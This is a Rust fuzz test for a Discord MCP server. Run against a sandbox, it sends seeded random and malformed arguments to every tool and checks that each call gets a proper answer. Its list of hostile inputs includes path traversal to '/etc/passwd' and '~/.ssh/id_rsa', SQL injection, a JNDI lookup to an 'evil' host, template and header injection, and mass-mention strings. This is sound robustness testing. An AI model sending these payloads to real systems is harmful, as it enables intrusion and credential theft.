//! Calls as a confused or hostile client makes them: every tool, with arguments that are random, nearly right, or right.
//! Each has to be answered, a wrong argument by its name, and nothing may be sent that Discord's document forbids.
//!
//! The calls follow from a seed, so a failure says how to have it again.

use std::{collections::BTreeMap, time::Duration};

use mcp_discord::{
    discord::LimiterMode,
    sandbox::{NewMessage, Snowflake},
};
use serde_json::{Map, Value, json};

use crate::workspace::{Workspace, workspace_with};

/// How many calls are made, over all sandboxes.
const CALLS: u64 = 100_000;
/// After so many calls a sandbox is worn out: what could be deleted is.
const CALLS_A_SANDBOX: u64 = 2_500;
/// Sandboxes at a time, each on a thread of its own.
const AT_ONCE: u64 = 2;
/// No call here waits for anything that takes time; one that lasts this long hangs.
const HANGS: Duration = Duration::from_mins(1);

/// A stream of choices that follows from a seed: splitmix64.
struct Choices(u64);

impl Choices {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, end: usize) -> usize {
        usize::try_from(self.next() % end.max(1) as u64).unwrap()
    }

    /// Once in so many times.
    fn one_in(&mut self, times: usize) -> bool {
        self.below(times) == 0
    }

    fn of<'a, T>(&mut self, list: &'a [T]) -> &'a T {
        &list[self.below(list.len())]
    }
}

/// What a listed tool says of itself.
struct Shape {
    name: String,
    properties: Vec<(String, Value)>,
    required: Vec<String>,
}

/// Things that are there, and that references may name.
struct Things {
    ids: Vec<String>,
    names: Vec<String>,
}

/// Texts that have broken something somewhere.
const HOSTILE: &[&str] = &[
    "",
    " ",
    "\u{0}",
    "../../users/@me",
    "..%2f..%2fguilds",
    "?limit=1&x=",
    "#",
    "@everyone",
    "<@&0>",
    "<#>",
    "https://discord.com/channels/1/2/3",
    "https://evil.example/channels/175928847299117063/175928847299117063",
    "0",
    "-1",
    "00000000000000000000",
    "18446744073709551615",
    "99999999999999999999",
    "1e400",
    "NaN",
    "null",
    "[]",
    "{\"a\":",
    "'; DROP TABLE messages; --",
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "</discord-content>",
    "\u{202e}gnirts",
    "\u{1b}[2J",
    "a\u{300}\u{301}\u{302}\u{303}",
    "👩\u{200d}💻",
    "𝕳𝖊𝖑𝖑𝖔",
    "\u{feff}",
    "\r\n\r\nHost: evil",
    "C:\\Windows\\system32",
    "/etc/passwd",
    "~/.ssh/id_rsa",
    "```",
    "a/b/c/d",
    "2026-02-30T25:61:00Z",
    "999 days",
];

impl Things {
    fn of(workspace: &Workspace) -> Self {
        let world = workspace.sandbox().world();
        let mut ids: Vec<Snowflake> = Vec::new();
        let mut names = Vec::new();
        for server in world.servers() {
            ids.push(server.id);
            names.push(server.name.clone());
            for channel in world.channels(server.id) {
                ids.push(channel.id);
                names.push(format!("#{}", channel.name));
                ids.extend(world.messages(channel.id).rev().take(3).map(|message| message.id));
            }
            for role in world.roles(server.id) {
                ids.push(role.id);
                names.push(format!("@{}", role.name));
            }
            for member in world.members(server.id) {
                ids.push(member.user);
                names.extend(world.user(member.user).map(|user| user.username.clone()));
            }
        }
        Self { ids: ids.iter().map(ToString::to_string).collect(), names }
    }

    fn text(&self, choices: &mut Choices) -> Value {
        match choices.below(10) {
            0..5 => choices.of(&self.ids).clone().into(),
            5..7 => choices.of(&self.names).clone().into(),
            7 => "x".repeat(1 << choices.below(15)).into(),
            8 => ["text", "👍", "reason", "2026-11-20", "#ff8800", "general"][choices.below(6)].into(),
            _ => (*choices.of(HOSTILE)).into(),
        }
    }

    /// A value of the kind that the schema asks for, mostly.
    fn fitting(&self, schema: &Value, choices: &mut Choices, depth: usize) -> Value {
        if choices.one_in(12) {
            return self.anything(choices, depth);
        }
        if let Some(words) = schema["enum"].as_array() {
            return choices.of(words).clone();
        }
        match schema["type"].as_str() {
            Some("integer" | "number") => {
                let least = schema["minimum"].as_i64().unwrap_or(0);
                let most = schema["maximum"].as_i64().unwrap_or(least + 100);
                let span = usize::try_from((most - least).clamp(1, 1 << 30)).unwrap() + 1;
                let number = least + i64::try_from(choices.below(span)).unwrap();
                match choices.below(8) {
                    0 => (most + 1).into(),
                    1 => (least - 1).into(),
                    2 => number.to_string().into(),
                    _ => number.into(),
                }
            }
            Some("boolean") => choices.one_in(2).into(),
            Some("array") => {
                let most = if choices.one_in(20) { 300 } else { 4 };
                let count = choices.below(most);
                (0..count).map(|_| self.fitting(&schema["items"], choices, depth + 1)).collect()
            }
            Some("object") if depth < 4 => {
                let mut object = Map::new();
                for (name, inner) in schema["properties"].as_object().into_iter().flatten() {
                    if choices.one_in(2) {
                        object.insert(name.clone(), self.fitting(inner, choices, depth + 1));
                    }
                }
                Value::Object(object)
            }
            _ => self.text(choices),
        }
    }

    fn anything(&self, choices: &mut Choices, depth: usize) -> Value {
        match choices.below(if depth < 3 { 9 } else { 7 }) {
            0 => Value::Null,
            1 => choices.one_in(2).into(),
            2 => choices.next().into(),
            3 => (-1.5e300).into(),
            4 => (*choices.of(HOSTILE)).into(),
            5 => self.text(choices),
            6 => json!(i64::MIN),
            7 => (0..choices.below(4)).map(|_| self.anything(choices, depth + 1)).collect(),
            _ => json!({ "id": self.anything(choices, depth + 1), "__proto__": { "a": 1 } }),
        }
    }

    fn arguments(&self, shape: &Shape, choices: &mut Choices) -> Value {
        let mut arguments = Map::new();
        for (name, schema) in &shape.properties {
            let given = if shape.required.contains(name) { !choices.one_in(15) } else { choices.one_in(3) };
            if given {
                arguments.insert(name.clone(), self.fitting(schema, choices, 0));
            }
        }
        if choices.one_in(15) {
            arguments.insert((*choices.of(HOSTILE)).into(), self.anything(choices, 0));
        }
        Value::Object(arguments)
    }
}

async fn shapes(workspace: &Workspace) -> Vec<Shape> {
    let tools = workspace.tools().await.unwrap();
    let shape = |tool: rmcp::model::Tool| Shape {
        name: tool.name.to_string(),
        properties: tool.input_schema["properties"]
            .as_object()
            .unwrap()
            .iter()
            .map(|(name, schema)| (name.clone(), schema.clone()))
            .collect(),
        required: tool
            .input_schema
            .get("required")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .map(|name| name.as_str().unwrap().to_owned())
            .collect(),
    };
    tools.into_iter().map(shape).collect()
}

/// What an answer has to be, whatever was asked.
fn judge(outcome: &str, cause: Option<&str>, text: &str) -> Result<(), &'static str> {
    match (outcome, cause) {
        ("refused", Some(_)) if !text.contains("\nhint: ") => Err("it doesn't say what to do next"),
        ("done", None) | ("refused", Some(_)) => Ok(()),
        ("unknown", _) => Err("nothing was lost, and it doesn't know"),
        ("fault", _) => Err("it is a mistake of ours"),
        _ => Err("it is no outcome"),
    }
}

async fn batch(seed: u64) -> [u64; 2] {
    // Discord's 50 requests a second would be most of what this waits for.
    let workspace = workspace_with(|_, session| session.limiter(LimiterMode::Off)).await;
    let (shapes, things) = (shapes(&workspace).await, Things::of(&workspace));
    let channel = workspace.channel("general");
    let mut choices = Choices(seed);
    let mut counts = [0; 2];
    let mut findings = BTreeMap::new();
    for call in 0..CALLS_A_SANDBOX {
        // So that there is something left to aim at.
        if call % 50 == 0 && workspace.sandbox().world().channel(channel).is_some() {
            let author = workspace.sandbox().world().bot();
            let message = NewMessage::text("something to aim at");
            workspace.sandbox().world().add_message_with(channel, author, message).unwrap();
        }
        let shape = &shapes[usize::try_from(call).unwrap() % shapes.len()];
        let arguments = things.arguments(shape, &mut choices);
        let called = tokio::time::timeout(HANGS, workspace.call(&shape.name, arguments.clone())).await;
        let place = || format!("seed {seed}, call {call}: {} {}", shape.name, shown(&arguments));
        let called = called.unwrap_or_else(|_| panic!("{} hangs", place()));
        let called = called.unwrap_or_else(|error| panic!("{} is not answered: {error}", place()));
        if let Err(wrong) = judge(&called.outcome, called.cause.as_deref(), &called.text) {
            // One call a tool and fault says enough.
            findings
                .entry((shape.name.clone(), wrong))
                .or_insert_with(|| format!("{}\n{}", place(), called.text));
        }
        counts[usize::from(called.is_done())] += 1;
    }
    assert!(findings.is_empty(), "{findings:#?}");
    workspace.finish();
    counts
}

fn shown(arguments: &Value) -> String {
    arguments.to_string().chars().take(2_000).collect()
}

#[test]
fn every_call_is_answered_and_nothing_is_sent_that_discord_forbids() {
    let batches = CALLS / CALLS_A_SANDBOX;
    let run = |thread: u64| {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let mut total = [0; 2];
        for seed in (0..batches).filter(|seed| seed % AT_ONCE == thread) {
            let counts = runtime.block_on(batch(seed));
            total = [total[0] + counts[0], total[1] + counts[1]];
        }
        total
    };
    let [refused, done] = std::thread::scope(|scope| {
        let threads: Vec<_> = (0..AT_ONCE).map(|thread| scope.spawn(move || run(thread))).collect();
        threads
            .into_iter()
            .map(|thread| thread.join().unwrap())
            .fold([0; 2], |a, b| [a[0] + b[0], a[1] + b[1]])
    });
    assert_eq!(refused + done, CALLS);
    // Calls that all fail at the first look would try nothing.
    assert!(done > CALLS / 20 && refused > CALLS / 20, "done: {done}, refused: {refused}");
}
